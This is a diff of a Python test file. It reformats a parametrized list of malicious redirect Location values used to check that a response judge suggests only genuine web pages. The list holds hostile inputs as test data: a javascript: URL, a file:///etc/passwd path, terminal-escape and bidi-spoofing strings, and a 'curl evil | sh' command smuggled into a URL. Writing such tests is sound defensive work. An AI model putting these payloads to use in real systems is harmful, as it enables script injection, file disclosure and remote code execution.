@@ -49,15 +49,10 @@ def test_what_an_answer_says(answer, verdict, page):
 @pytest.mark.parametrize(
     "location",
     [
-        "javascript:alert(1)",
-        "file:///etc/passwd",
-        "http://gw/\x1b[2J\x1b]0;owned\x07",
-        "http://gw/ ; curl evil | sh",
-        "http://g\u202ew/",
-        "https://" + "a" * 4000,
-        "/login",
+        "javascript:alert(1)", "file:///etc/passwd", "http://gw/\x1b[2J\x1b]0;owned\x07",
+        "http://gw/ ; curl evil | sh", "http://g\u202ew/", "https://" + "a" * 4000, "/login",
     ],
-)
+)  # fmt: skip
 def test_only_a_web_page_is_ever_suggested(location):
     answer = f"HTTP/1.1 302 Found\r\nLocation: {location}\r\n\r\n".encode()
     finding = judge(PAGE, answer)
